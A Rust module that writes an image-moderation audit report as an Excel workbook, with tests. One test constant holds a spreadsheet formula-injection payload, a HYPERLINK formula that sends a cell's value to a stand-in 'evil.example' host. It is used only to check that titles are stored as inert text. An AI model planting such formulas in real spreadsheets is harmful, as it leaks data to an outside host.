//! `audit.xlsx` (`--format xlsx`): one workbook for the people who live in
//! Excel, with four sheets: **Summary** (the run, totals, ledger,
//! `AuditStatus` coverage, counts by `AuditStatus`, `Status`, category and
//! failure code, changes), **Blocked** (every blocked image), **Changes**
//! (the rows of `changes.csv`) and **All images** (the rows of
//! `images.csv`).
//!
//! Owns the sheets' layout and the cell types. Text is always written with
//! `write_string`, which makes a string cell whatever the text (a formula
//! takes `write_formula`, never called here; XlsxWriter's Python `write`
//! guesses, this crate's does not, but `write_string` says so), so a title
//! such as `=HYPERLINK(...)` is shown as text and never runs; the
//! value is kept as the API gave it (no `'` as in the defused CSV), cut at
//! Excel's 32,767 UTF-16 units like `images.csv`. Ids of categories,
//! sizes, attempts, HTTP statuses and counts are number cells.
//!
//! Memory stays flat at any number of images: the data sheets are the
//! writer's constant-memory worksheets, which keep one row in memory and
//! stream the rest to an anonymous temporary file in the run directory
//! (the disk that holds the reports, not a `/tmp` that may be RAM). A sheet
//! that reaches Excel's 1,048,576 rows continues on `All images (2)` and so
//! on, and the Summary sheet says so. Where the file goes and how it is made
//! durable is [`crate::rundir`]'s business.

use std::any::Any;
use std::io::{self, Write};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::Path;

use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};

use super::changes::{Change, CHANGES_COLUMNS, CHANGE_KINDS};
use super::pass::RunFacts;
use super::record::{ImageRecord, BLOCKED};
use super::summary::Summary;
use super::write::{CUT_MARKER, IMAGES_COLUMNS};

/// The first sheet: the run and its counts.
pub const SUMMARY_SHEET: &str = "Summary";
/// Every blocked image.
pub const BLOCKED_SHEET: &str = "Blocked";
/// What changed since the earlier run compared with.
pub const CHANGES_SHEET: &str = "Changes";
/// One row per image, the columns of `images.csv`.
pub const IMAGES_SHEET: &str = "All images";

/// The Summary sheet's header.
pub const SUMMARY_COLUMNS: &[&str] = &["section", "item", "label", "count", "blocked"];

/// The Blocked sheet's header. `reason` stays empty until the moderation
/// API is asked why (a later change).
pub const BLOCKED_COLUMNS: &[&str] = &["image_id", "title", "cate_id", "cate_name", "creation_time", "url", "reason"];

/// Rows in one Excel worksheet, the header included (Excel's
/// specification and limits).
pub const EXCEL_MAX_ROWS: u32 = 1_048_576;

/// The longest text an Excel cell holds, in UTF-16 code units (Excel's
/// limits; the writer refuses longer).
pub const EXCEL_MAX_CELL: usize = 32_767;

/// Above this estimate of a sheet's XML the file is written with ZIP64,
/// which a zip of more than 4 GiB needs; half of that, for the estimate's
/// slack. Smaller files stay plain zip, which every reader takes.
const ZIP64_ABOVE: u64 = 2 << 30;

/// Bytes of XML around one cell's value (`<c r="..." s="1" t="inlineStr"><is><t ...>`).
const CELL_XML: u64 = 64;

/// A column's width in characters: wide enough for an id, a URL or a title to be
/// read without dragging.
fn width(column: &str) -> f64 {
    match column {
        "image_id" | "request_id" | "item" => 34.0,
        "title" | "description" | "error_message" | "reason" => 40.0,
        "url" | "file_url" | "image_url" | "label" => 50.0,
        "storage_location" | "original_file_name" => 30.0,
        "creation_time" | "error_code" | "section" => 22.0,
        "cate_name" | "before_cate_name" | "tags" | "change" | "image_type" => 20.0,
        "width" | "height" | "attempts" | "outcome" | "blocked" => 10.0,
        _ => 14.0,
    }
}

/// One cell's value, typed.
enum Cell<'a> {
    /// A string cell (blank when absent).
    Text(Option<&'a str>),
    /// A number cell (blank when absent).
    Int(Option<i64>),
    /// Digits as the API sent them (`FileSize`): a number cell when it is a
    /// whole number, the text otherwise.
    Digits(Option<&'a str>),
}

const _: () = assert!(IMAGES_COLUMNS.len() == 28 && BLOCKED_COLUMNS.len() == 7 && CHANGES_COLUMNS.len() == 10);

/// A record as the cells of an `All images` row, in [`IMAGES_COLUMNS`] order.
fn image_cells(r: &ImageRecord) -> [Cell<'_>; 28] {
    use Cell::{Digits, Int, Text};
    [
        Text(Some(&r.image_id)),
        Text(Some(r.outcome.as_str())),
        Text(r.audit_status.as_deref()),
        Text(r.audit_suggestion.as_deref()),
        Text(r.audit_labels.as_deref()),
        Text(r.audit_source.as_deref()),
        Text(r.status.as_deref()),
        Int(r.cate_id),
        Text(r.cate_name.as_deref()),
        Text(r.title.as_deref()),
        Text(r.image_type.as_deref()),
        Text(r.creation_time.as_deref()),
        Text(r.tags.as_deref()),
        Text(r.description.as_deref()),
        Text(r.storage_location.as_deref()),
        Text(r.url.as_deref()),
        Text(r.app_id.as_deref()),
        Text(r.region_id.as_deref()),
        Digits(r.file_size.as_deref()),
        Int(r.width),
        Int(r.height),
        Text(r.original_file_name.as_deref()),
        Text(r.file_url.as_deref()),
        Int(Some(r.attempts.into())),
        Text(r.error_code.as_deref()),
        Text(r.error_message.as_deref()),
        Int(r.http_status.map(i64::from)),
        Text(r.request_id.as_deref()),
    ]
}

/// A blocked record as the cells of a `Blocked` row ([`BLOCKED_COLUMNS`]).
fn blocked_cells(r: &ImageRecord) -> [Cell<'_>; 7] {
    use Cell::{Int, Text};
    [
        Text(Some(&r.image_id)),
        Text(r.title.as_deref()),
        Int(r.cate_id),
        Text(r.cate_name.as_deref()),
        Text(r.creation_time.as_deref()),
        Text(r.url.as_deref()),
        // Why, when GetMediaAuditResult was asked (--audit-source).
        Text(r.audit_labels.as_deref()),
    ]
}

/// A change as the cells of a `Changes` row ([`CHANGES_COLUMNS`]).
fn change_cells(c: &Change) -> [Cell<'_>; 10] {
    use Cell::{Int, Text};
    [
        Text(Some(&c.image_id)),
        Text(Some(c.change)),
        Text(Some(&c.before)),
        Text(Some(&c.after)),
        Text(c.title.as_deref()),
        Int(c.cate_id),
        Text(c.cate_name.as_deref()),
        Text(c.image_url.as_deref()),
        Int(c.before_cate_id),
        Text(c.before_cate_name.as_deref()),
    ]
}

/// `value` cut to at most [`EXCEL_MAX_CELL`] UTF-16 units, marked as
/// `images.csv` marks its cut cells, if longer.
fn cut_cell(value: &str) -> Option<String> {
    // UTF-8 bytes bound UTF-16 units: most values never need counting.
    if value.len() <= EXCEL_MAX_CELL || value.encode_utf16().count() <= EXCEL_MAX_CELL {
        return None;
    }
    let marker = format!("{CUT_MARKER}{}]", value.len());
    let room = EXCEL_MAX_CELL - marker.encode_utf16().count();
    let (mut units, mut end) = (0, 0);
    for (i, ch) in value.char_indices() {
        if units + ch.len_utf16() > room {
            break;
        }
        units += ch.len_utf16();
        end = i + ch.len_utf8();
    }
    Some(format!("{}{marker}", &value[..end]))
}

/// The largest integer an Excel number (an f64) holds exactly: 2^53.
const EXACT_INT: u64 = 1 << 53;

fn xlsx_error(e: XlsxError) -> io::Error {
    match e {
        XlsxError::IoError(e) | XlsxError::TempFileError(_, e) => e,
        other => io::Error::other(other),
    }
}

/// Writes one typed cell; returns the bytes of XML it adds, roughly.
fn write_cell(ws: &mut Worksheet, row: u32, col: u16, cell: &Cell<'_>) -> io::Result<u64> {
    let text = |ws: &mut Worksheet, v: &str| -> io::Result<u64> {
        let cut = cut_cell(v);
        let v = cut.as_deref().unwrap_or(v);
        // write_string: a string cell whatever the text, never a formula.
        ws.write_string(row, col, v).map_err(xlsx_error)?;
        let escaped = v.bytes().filter(|b| matches!(b, b'&' | b'<' | b'>' | b'"') || *b < 0x20).count() as u64;
        Ok(CELL_XML + v.len() as u64 + 6 * escaped)
    };
    let number = |ws: &mut Worksheet, n: i64| -> io::Result<u64> {
        if n.unsigned_abs() > EXACT_INT {
            // An id a float would round: kept exact, as text.
            return text(ws, &n.to_string());
        }
        ws.write_number(row, col, n as f64).map_err(xlsx_error)?;
        Ok(CELL_XML)
    };
    match *cell {
        Cell::Text(Some(v)) => text(ws, v),
        Cell::Int(Some(n)) => number(ws, n),
        Cell::Digits(Some(v)) => match v.parse::<i64>() {
            Ok(n) if v.bytes().all(|b| b.is_ascii_digit()) => number(ws, n),
            _ => text(ws, v),
        },
        Cell::Text(None) | Cell::Int(None) | Cell::Digits(None) => Ok(0),
    }
}

/// A new data sheet: the bold header, frozen, the widths set.
fn start_sheet(ws: &mut Worksheet, name: &str, columns: &[&str], bold: &Format) -> io::Result<()> {
    ws.set_name(name).map_err(xlsx_error)?;
    for (col, title) in columns.iter().enumerate() {
        let col = col as u16;
        ws.write_string_with_format(0, col, *title, bold).map_err(xlsx_error)?;
        ws.set_column_width(col, width(title)).map_err(xlsx_error)?;
    }
    ws.set_freeze_panes(1, 0).map_err(xlsx_error)?;
    Ok(())
}

/// One worksheet of a [`Sheet`].
struct Part {
    sheet: Worksheet,
    name: String,
    rows: u32,
}

/// One logical sheet (All images, say): the worksheets it fills, one after
/// another as each reaches the row limit.
struct Sheet {
    base: &'static str,
    columns: &'static [&'static str],
    done: Vec<Part>,
    current: Part,
    /// Rows of data in every part.
    rows: u64,
    /// The current part's XML, estimated.
    xml_bytes: u64,
    /// Whether any part's XML may pass the plain zip's 4 GiB.
    large: bool,
}

impl Sheet {
    fn new(
        book: &mut Workbook,
        base: &'static str,
        columns: &'static [&'static str],
        bold: &Format,
    ) -> io::Result<Self> {
        let current = Self::part(book, base.to_owned(), columns, bold)?;
        Ok(Sheet { base, columns, done: Vec::new(), current, rows: 0, xml_bytes: 0, large: false })
    }

    fn part(book: &mut Workbook, name: String, columns: &[&str], bold: &Format) -> io::Result<Part> {
        let mut sheet = book.new_worksheet_with_constant_memory().map_err(xlsx_error)?;
        start_sheet(&mut sheet, &name, columns, bold)?;
        Ok(Part { sheet, name, rows: 0 })
    }

    /// Appends one row, on a new worksheet if the current one is full.
    fn push(&mut self, book: &mut Workbook, bold: &Format, limit: u32, cells: &[Cell<'_>]) -> io::Result<()> {
        if self.current.rows + 1 >= limit {
            let name = format!("{} ({})", self.base, self.done.len() + 2);
            let next = Self::part(book, name, self.columns, bold)?;
            self.done.push(std::mem::replace(&mut self.current, next));
            self.xml_bytes = 0;
        }
        let row = self.current.rows + 1;
        for (col, cell) in cells.iter().enumerate() {
            self.xml_bytes += write_cell(&mut self.current.sheet, row, col as u16, cell)?;
        }
        self.large |= self.xml_bytes > ZIP64_ABOVE;
        self.current.rows = row;
        self.rows += 1;
        Ok(())
    }

    /// A line of text under the header, for a sheet with nothing to list.
    fn note(&mut self, text: &str) -> io::Result<()> {
        write_cell(&mut self.current.sheet, 1, 0, &Cell::Text(Some(text))).map(drop)
    }

    fn names(&self) -> impl Iterator<Item = (&str, u32)> {
        self.done.iter().chain([&self.current]).map(|p| (p.name.as_str(), p.rows))
    }

    /// The worksheets, each with its autofilter over what it holds.
    fn finish(self) -> io::Result<Vec<Worksheet>> {
        let last_col = self.columns.len() as u16 - 1;
        let mut out = Vec::new();
        for mut part in self.done.into_iter().chain([self.current]) {
            part.sheet.autofilter(0, 0, part.rows.max(1), last_col).map_err(xlsx_error)?;
            out.push(part.sheet);
        }
        Ok(out)
    }
}

/// `audit.xlsx`, fed one record and one change at a time in `image_id`
/// order, and finished with the summary.
pub struct AuditWorkbook {
    book: Workbook,
    bold: Format,
    blocked: Sheet,
    changes: Sheet,
    images: Sheet,
    /// Rows per worksheet, the header included ([`EXCEL_MAX_ROWS`]; fewer
    /// in the tests).
    limit: u32,
    /// Set when the writer failed: the workbook is not to be trusted.
    broken: bool,
}

impl AuditWorkbook {
    /// Starts a workbook whose sheet data waits in anonymous temporary files
    /// in `dir` (the run directory).
    pub fn new(dir: &Path) -> io::Result<Self> {
        Self::with_limit(dir, EXCEL_MAX_ROWS)
    }

    fn with_limit(dir: &Path, limit: u32) -> io::Result<Self> {
        guarded(|| {
            let mut book = Workbook::new();
            book.set_tempdir(dir).map_err(xlsx_error)?;
            let bold = Format::new().set_bold();
            let blocked = Sheet::new(&mut book, BLOCKED_SHEET, BLOCKED_COLUMNS, &bold)?;
            let changes = Sheet::new(&mut book, CHANGES_SHEET, CHANGES_COLUMNS, &bold)?;
            let images = Sheet::new(&mut book, IMAGES_SHEET, IMAGES_COLUMNS, &bold)?;
            Ok(AuditWorkbook { book, bold, blocked, changes, images, limit, broken: false })
        })
    }

    /// Runs `f` on the workbook, refusing once it has failed.
    fn with<T>(&mut self, f: impl FnOnce(&mut Self) -> io::Result<T>) -> io::Result<T> {
        if self.broken {
            return Err(io::Error::other("audit.xlsx: the workbook failed earlier"));
        }
        let result = guarded(|| f(self));
        self.broken = result.is_err();
        result
    }

    /// Adds a record to `All images`, and to `Blocked` if it is blocked.
    pub fn add_record(&mut self, r: &ImageRecord) -> io::Result<()> {
        self.with(|w| {
            w.images.push(&mut w.book, &w.bold, w.limit, &image_cells(r))?;
            if r.is_blocked() {
                w.blocked.push(&mut w.book, &w.bold, w.limit, &blocked_cells(r))?;
            }
            Ok(())
        })
    }

    /// Adds a change to `Changes`.
    pub fn add_change(&mut self, c: &Change) -> io::Result<()> {
        self.with(|w| w.changes.push(&mut w.book, &w.bold, w.limit, &change_cells(c)))
    }

    /// Writes the Summary sheet and the whole workbook to `out`.
    pub fn finish<W: Write + Send>(self, summary: &Summary, facts: &RunFacts, out: W) -> io::Result<()> {
        if self.broken {
            return Err(io::Error::other("audit.xlsx: the workbook failed earlier"));
        }
        let AuditWorkbook { mut book, bold, blocked, mut changes, images, .. } = self;
        guarded(move || {
            if changes.rows == 0 {
                let note = match &summary.changes {
                    None => "This run was not compared with an earlier one (--compare-with auto or DIR).".to_owned(),
                    Some(c) => format!(
                        "No changes since {} ({} images compared).",
                        c.compared_with.as_deref().unwrap_or("the earlier run"),
                        c.compared
                    ),
                };
                changes.note(&note)?;
            }
            let mut first = Worksheet::new();
            write_summary(&mut first, summary, facts, &bold, [&blocked, &changes, &images])?;
            book.push_worksheet(first);
            let large = [&blocked, &changes, &images].iter().any(|s| s.large);
            for sheet in [blocked, changes, images] {
                for ws in sheet.finish()? {
                    book.push_worksheet(ws);
                }
            }
            book.use_zip_large_file(large);
            book.save_to_writer(out).map_err(xlsx_error)
        })
    }
}

/// The Summary sheet's rows, one after another.
struct Lines<'w> {
    ws: &'w mut Worksheet,
    row: u32,
}

impl Lines<'_> {
    /// Writes the next row; returns its index.
    fn line(
        &mut self,
        section: &str,
        item: Cell<'_>,
        label: Option<&str>,
        count: Option<u64>,
        blocked: Option<u64>,
    ) -> io::Result<u32> {
        self.row += 1;
        let cells = [
            Cell::Text(Some(section)),
            item,
            Cell::Text(label),
            Cell::Int(count.map(|n| n as i64)),
            Cell::Int(blocked.map(|n| n as i64)),
        ];
        for (col, cell) in cells.iter().enumerate() {
            write_cell(self.ws, self.row, col as u16, cell)?;
        }
        Ok(self.row)
    }
}

fn text(v: &str) -> Cell<'_> {
    Cell::Text(Some(v))
}

/// The Summary sheet, [`SUMMARY_COLUMNS`]: the run, the totals and ledger,
/// the `AuditStatus` coverage, the counts, the changes and the sheets.
fn write_summary(
    ws: &mut Worksheet,
    s: &Summary,
    facts: &RunFacts,
    bold: &Format,
    sheets: [&Sheet; 3],
) -> io::Result<()> {
    start_sheet(ws, SUMMARY_SHEET, SUMMARY_COLUMNS, bold)?;
    let mut w = Lines { ws, row: 0 };
    w.line("run", text("complete"), Some(if s.complete { "yes" } else { "no" }), None, None)?;
    if let Some(reason) = &s.stop_reason {
        w.line("run", text("stop_reason"), Some(reason), None, None)?;
    }
    let account = facts.account.as_deref().unwrap_or("");
    for (item, value) in [
        ("started", facts.started.as_str()),
        ("finished", &facts.finished),
        ("input", &facts.input),
        ("input_sha256", &facts.input_sha256),
        ("endpoint", &facts.endpoint),
        ("region", &facts.region),
        ("account", account),
    ] {
        if !value.is_empty() {
            w.line("run", text(item), Some(value), None, None)?;
        }
    }
    let t = &s.totals;
    for (item, n) in [
        ("input_rows", t.input_rows),
        ("unique_ids", t.unique_ids),
        ("duplicates", t.duplicates),
        ("invalid", t.invalid),
        ("found", t.found),
        ("missing", t.missing),
        ("failed", t.failed),
    ] {
        let blocked = (item == "found").then(|| s.blocked());
        w.line("totals", text(item), None, Some(n), blocked)?;
    }
    let l = &s.ledger;
    for (item, n) in [
        ("input_rows", l.input_rows),
        ("blank_rows", l.blank_rows),
        ("rejected", l.rejected),
        ("duplicates", l.duplicates),
        ("unique_ids", l.unique_ids),
        ("found", l.found),
        ("missing", l.missing),
        ("failed", l.failed),
        ("unaccounted", l.unaccounted),
    ] {
        w.line("ledger", text(item), None, Some(n), None)?;
    }
    let c = &s.audit_status_coverage;
    w.line("audit_status_coverage", text("found"), None, Some(c.found), None)?;
    w.line("audit_status_coverage", text("with_audit_status"), None, Some(c.with_audit_status), None)?;
    let row = w.line("audit_status_coverage", text("share"), Some(&c.percent()), None, None)?;
    let percent = Format::new().set_num_format("0.0%");
    w.ws.write_number_with_format(row, 3, c.share, &percent).map_err(xlsx_error)?;
    for (value, n) in &s.by_audit_status {
        let blocked = if value == BLOCKED { *n } else { 0 };
        w.line("audit_status", text(value), None, Some(*n), Some(blocked))?;
    }
    for (value, n) in &s.by_status {
        w.line("status", text(value), None, Some(*n), None)?;
    }
    for cat in &s.by_category {
        let label = cat.cate_name.as_deref().or(cat.cate_id.is_none().then_some("(uncategorized)"));
        w.line("category", Cell::Int(cat.cate_id), label, Some(cat.images), Some(cat.blocked))?;
    }
    for (code, n) in &s.failures_by_code {
        w.line("failures_by_code", text(code), None, Some(*n), None)?;
    }
    if let Some(ch) = &s.changes {
        w.line("changes", text("compared_with"), ch.compared_with.as_deref(), None, None)?;
        w.line("changes", text("compared"), None, Some(ch.compared), None)?;
        w.line("changes", text("not_compared"), None, Some(ch.not_compared), None)?;
        for kind in CHANGE_KINDS {
            w.line("changes", text(kind), None, Some(ch.counts.get(*kind).copied().unwrap_or(0)), None)?;
        }
    }
    for sheet in sheets {
        let parts: Vec<(&str, u32)> = sheet.names().collect();
        for (name, rows) in &parts {
            w.line("sheets", text(name), None, Some(u64::from(*rows)), None)?;
        }
        if let [_, rest @ ..] = parts.as_slice() {
            if !rest.is_empty() {
                let names: Vec<&str> = rest.iter().map(|p| p.0).collect();
                let note = format!(
                    "{} has {} rows, more than one Excel sheet holds ({EXCEL_MAX_ROWS} with the header): it continues on {}",
                    sheet.base,
                    sheet.rows,
                    names.join(", ")
                );
                w.line("sheets", text(sheet.base), Some(&note), Some(sheet.rows), None)?;
            }
        }
    }
    let last = SUMMARY_COLUMNS.len() as u16 - 1;
    w.ws.autofilter(0, 0, w.row.max(1), last).map_err(xlsx_error)?;
    Ok(())
}

/// Runs `f`, turning a panic into an error. The writer streams a
/// constant-memory sheet to its temporary file with `expect`, so a full
/// disk there panics instead of failing; as an error it ends the run like
/// any report that cannot be written (exit 4, resumable), not as a crash.
fn guarded<T>(f: impl FnOnce() -> io::Result<T>) -> io::Result<T> {
    catch_unwind(AssertUnwindSafe(f)).unwrap_or_else(|payload| Err(panic_error(payload.as_ref())))
}

/// The panic's message as an error, of the kind of the I/O error it
/// carries (`Os { code: 28, .. }`) when it names one, so the disk-full
/// advice still applies.
fn panic_error(payload: &(dyn Any + Send)) -> io::Error {
    let message = payload
        .downcast_ref::<String>()
        .map(String::as_str)
        .or_else(|| payload.downcast_ref::<&str>().copied())
        .unwrap_or("a panic");
    let code = message.split("code: ").nth(1).and_then(|t| {
        let digits: String = t.chars().take_while(char::is_ascii_digit).collect();
        digits.parse::<i32>().ok()
    });
    let kind = code.map_or(io::ErrorKind::Other, |c| io::Error::from_raw_os_error(c).kind());
    io::Error::new(kind, format!("audit.xlsx: the spreadsheet writer failed: {message}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The column of `All images` that holds `name`.
    fn col(name: &str) -> u32 {
        IMAGES_COLUMNS.iter().position(|c| *c == name).expect("a column") as u32
    }
    use crate::api::model::{ImageInfo, Mezzanine};
    use crate::report::changes::classify;
    use crate::report::summary::summarize;
    use crate::report::testing::{failed, found};
    use crate::report::write::write_images_csv;
    use crate::run::outcome::Outcome;
    use crate::rundir::files::room_advice;
    use calamine::{open_workbook, Data, Reader, Xlsx};

    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    /// Columns that hold numbers.
    const NUMBERS: &[&str] = &["cate_id", "before_cate_id", "file_size", "width", "height", "attempts", "http_status"];

    fn records() -> Vec<ImageRecord> {
        let info = ImageInfo {
            title: Some(EVIL.into()),
            audit_status: Some("Blocked".into()),
            status: Some("Normal".into()),
            cate_id: Some(1000003),
            cate_name: Some("娱乐 Entertainment".into()),
            creation_time: Some("2024-01-02T03:04:05Z".into()),
            url: Some("https://cdn.example/a.png?auth_key=1-0-0-x".into()),
            description: Some("+1 @me -x\ttab".into()),
            mezzanine: Some(Mezzanine {
                file_size: Some("8932".into()),
                width: Some(200),
                height: Some(100),
                ..Default::default()
            }),
            ..Default::default()
        };
        vec![
            Outcome::found("a1".into(), info, 2, Some("REQ".into())).record(),
            found("b2", Some("Normal"), Some("Normal"), Some((7, "News"))),
            Outcome::missing("c3".into(), 1, None).record(),
            failed("d4", "InternalError"),
        ]
    }

    /// Writes a workbook of `records` (and `changes`) in `dir` with `limit`
    /// rows a sheet, and opens it.
    fn written(
        dir: &Path,
        limit: u32,
        records: &[ImageRecord],
        changes: &[Change],
        compared: bool,
    ) -> Xlsx<io::BufReader<std::fs::File>> {
        let mut book = AuditWorkbook::with_limit(dir, limit).unwrap();
        for r in records {
            book.add_record(r).unwrap();
        }
        for c in changes {
            book.add_change(c).unwrap();
        }
        let mut summary = summarize(records.len() as u64, 0, 0, records);
        summary.ledger.unique_ids = records.len() as u64;
        if compared {
            summary.changes = Some(Default::default());
        }
        let path = dir.join("audit.xlsx");
        let file = std::fs::File::create(&path).unwrap();
        book.finish(&summary, &RunFacts::default(), file).unwrap();
        open_workbook(&path).unwrap()
    }

    fn header(book: &mut Xlsx<io::BufReader<std::fs::File>>, sheet: &str) -> Vec<String> {
        let range = book.worksheet_range(sheet).unwrap();
        range.rows().next().unwrap().iter().map(|c| c.to_string()).collect()
    }

    #[test]
    fn four_sheets_headers_and_typed_cells_with_no_formula() {
        let dir = tempfile::tempdir().unwrap();
        let recs = records();
        let before = found("a1", Some("Normal"), Some("Normal"), Some((1000001, "News")));
        let changes = classify(&before, &recs[0]);
        assert_eq!(changes.len(), 2, "newly blocked, category changed");
        let mut book = written(dir.path(), EXCEL_MAX_ROWS, &recs, &changes, true);

        assert_eq!(book.sheet_names(), [SUMMARY_SHEET, BLOCKED_SHEET, CHANGES_SHEET, IMAGES_SHEET]);
        assert_eq!(header(&mut book, SUMMARY_SHEET), SUMMARY_COLUMNS);
        assert_eq!(header(&mut book, BLOCKED_SHEET), BLOCKED_COLUMNS);
        assert_eq!(header(&mut book, CHANGES_SHEET), CHANGES_COLUMNS);
        assert_eq!(header(&mut book, IMAGES_SHEET), IMAGES_COLUMNS);
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula on {sheet}");
        }

        // All images: the rows of images.csv, in order, each cell typed.
        let images = book.worksheet_range(IMAGES_SHEET).unwrap();
        assert_eq!(images.height(), 1 + recs.len());
        let mut csv_text = Vec::new();
        write_images_csv(&mut csv_text, &recs).unwrap();
        let mut csv_rows = csv::Reader::from_reader(&csv_text[..]);
        for (row, want) in images.rows().skip(1).zip(csv_rows.records()) {
            let want = want.unwrap();
            for ((col, cell), want) in IMAGES_COLUMNS.iter().zip(row).zip(want.iter()) {
                match cell {
                    Data::Empty => assert_eq!(want, "", "{col}"),
                    Data::String(s) => {
                        assert!(!NUMBERS.contains(col), "{col} is text: {s:?}");
                        assert_eq!(s, want, "{col}");
                    }
                    Data::Float(n) => {
                        assert!(NUMBERS.contains(col), "{col} is a number: {n}");
                        assert_eq!(n.to_string(), want, "{col}");
                    }
                    other => panic!("{col}: {other:?}"),
                }
            }
        }
        assert_eq!(
            images.get_value((1, col("title"))),
            Some(&Data::String(EVIL.into())),
            "the title, as given, a string"
        );
        assert_eq!(
            images.get_value((1, col("description"))),
            Some(&Data::String("+1 @me -x\ttab".into())),
            "no ' added"
        );

        let blocked = book.worksheet_range(BLOCKED_SHEET).unwrap();
        assert_eq!(blocked.height(), 2, "one blocked image");
        let row: Vec<&Data> = blocked.rows().nth(1).unwrap().iter().collect();
        assert_eq!(row[0], &Data::String("a1".into()));
        assert_eq!(row[1], &Data::String(EVIL.into()));
        assert_eq!(row[2], &Data::Float(1000003.0));
        assert_eq!(row[3], &Data::String("娱乐 Entertainment".into()));
        assert_eq!(row[4], &Data::String("2024-01-02T03:04:05Z".into()));
        assert_eq!(row[5], &Data::String("https://cdn.example/a.png?auth_key=1-0-0-x".into()));

        let ch = book.worksheet_range(CHANGES_SHEET).unwrap();
        let kinds: Vec<String> = ch.rows().skip(1).map(|r| r[1].to_string()).collect();
        assert_eq!(kinds, ["newly_blocked", "category_changed"]);
        assert_eq!(ch.get_value((1, 5)), Some(&Data::Float(1000003.0)));
        assert_eq!(ch.get_value((1, 8)), Some(&Data::Float(1000001.0)));

        let summary = book.worksheet_range(SUMMARY_SHEET).unwrap();
        let find =
            |section: &str, item: &str| summary.rows().find(|r| r[0] == *section && r[1] == *item).map(|r| r.to_vec());
        assert_eq!(find("totals", "found").unwrap()[3..], [Data::Float(2.0), Data::Float(1.0)]);
        assert_eq!(find("ledger", "unique_ids").unwrap()[3], Data::Float(4.0));
        assert_eq!(find("audit_status", "Blocked").unwrap()[3..], [Data::Float(1.0), Data::Float(1.0)]);
        assert_eq!(find("audit_status_coverage", "share").unwrap()[3], Data::Float(1.0));
        assert_eq!(find("changes", "newly_blocked").unwrap()[3], Data::Float(0.0), "the summary's counts");
        assert_eq!(find("sheets", IMAGES_SHEET).unwrap()[3], Data::Float(4.0));
        let category = summary.rows().find(|r| r[0] == "category" && r[1] == Data::Float(7.0));
        assert_eq!(category.unwrap()[2], Data::String("News".into()), "cate_id a number, the name beside it");
    }

    #[test]
    fn rows_past_the_limit_continue_on_numbered_sheets() {
        let dir = tempfile::tempdir().unwrap();
        let recs: Vec<ImageRecord> =
            (0..5).map(|i| found(&format!("id{i}"), Some("Blocked"), Some("Normal"), None)).collect();
        // Three rows a sheet: the header and two images.
        let mut book = written(dir.path(), 3, &recs, &[], false);
        assert_eq!(
            book.sheet_names(),
            [
                "Summary",
                "Blocked",
                "Blocked (2)",
                "Blocked (3)",
                "Changes",
                "All images",
                "All images (2)",
                "All images (3)"
            ]
        );
        let mut ids = Vec::new();
        for sheet in ["All images", "All images (2)", "All images (3)"] {
            assert_eq!(header(&mut book, sheet), IMAGES_COLUMNS);
            let range = book.worksheet_range(sheet).unwrap();
            ids.extend(range.rows().skip(1).map(|r| r[0].to_string()));
        }
        assert_eq!(ids, ["id0", "id1", "id2", "id3", "id4"], "every image once, in order");
        let summary = book.worksheet_range(SUMMARY_SHEET).unwrap();
        let notes: Vec<String> = summary
            .rows()
            .filter(|r| r[0] == "sheets" && r[2].to_string().contains("continues on"))
            .map(|r| r[2].to_string())
            .collect();
        assert_eq!(notes.len(), 2, "{notes:?}");
        assert!(notes[1].starts_with("All images has 5 rows") && notes[1].ends_with("All images (2), All images (3)"));
        let changes = book.worksheet_range(CHANGES_SHEET).unwrap();
        assert!(changes.get_value((1, 0)).unwrap().to_string().contains("not compared"), "a note, not a blank sheet");
    }

    #[test]
    fn a_cell_past_excels_limit_in_utf16_units_is_cut_and_marked() {
        // 20,000 characters, 40,000 UTF-16 units: Excel counts the units.
        let emoji = "😀".repeat(20_000);
        let cut = cut_cell(&emoji).expect("cut");
        assert!(cut.encode_utf16().count() <= EXCEL_MAX_CELL);
        assert!(cut.starts_with("😀😀") && cut.ends_with(&format!("{CUT_MARKER}{}]", emoji.len())));
        assert_eq!(cut_cell(&"a".repeat(EXCEL_MAX_CELL)), None, "exactly at the limit");
        let dir = tempfile::tempdir().unwrap();
        let info = ImageInfo { title: Some(emoji), ..Default::default() };
        let rec = Outcome::found("e".into(), info, 1, None).record();
        let mut book = written(dir.path(), EXCEL_MAX_ROWS, &[rec], &[], false);
        let images = book.worksheet_range(IMAGES_SHEET).unwrap();
        assert_eq!(images.get_value((1, col("title"))), Some(&Data::String(cut)));
    }

    #[test]
    fn an_id_a_float_would_round_stays_exact_as_text() {
        let dir = tempfile::tempdir().unwrap();
        let ids = [(1i64 << 53) + 1, i64::MIN];
        let recs: Vec<ImageRecord> =
            ids.iter().enumerate().map(|(i, id)| found(&format!("x{i}"), None, None, Some((*id, "Huge")))).collect();
        let mut book = written(dir.path(), EXCEL_MAX_ROWS, &recs, &[], false);
        let images = book.worksheet_range(IMAGES_SHEET).unwrap();
        for (row, id) in ids.iter().enumerate() {
            assert_eq!(images.get_value((row as u32 + 1, col("cate_id"))), Some(&Data::String(id.to_string())));
        }
        assert_eq!(images.get_value((1, col("attempts"))), Some(&Data::Float(1.0)), "attempts: a number");
    }

    #[test]
    fn a_panic_in_the_writer_is_an_error_of_the_io_kind_it_names() {
        let e = panic_error(&String::from(
            "Couldn't write to xml file: Os { code: 28, kind: StorageFull, message: \"No space left on device\" }",
        ));
        assert_eq!(e.kind(), io::ErrorKind::StorageFull);
        assert!(room_advice(&e).is_some(), "the disk-full advice applies");
        assert_eq!(panic_error(&"something else").kind(), io::ErrorKind::Other);
        let e = guarded::<()>(|| panic!("boom")).unwrap_err();
        assert!(e.to_string().contains("boom"), "{e}");
    }

    #[test]
    fn no_temporary_file_is_left_in_the_run_directory() {
        let dir = tempfile::tempdir().unwrap();
        drop(written(dir.path(), EXCEL_MAX_ROWS, &records(), &[], false));
        let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert_eq!(names, ["audit.xlsx"]);
    }
}
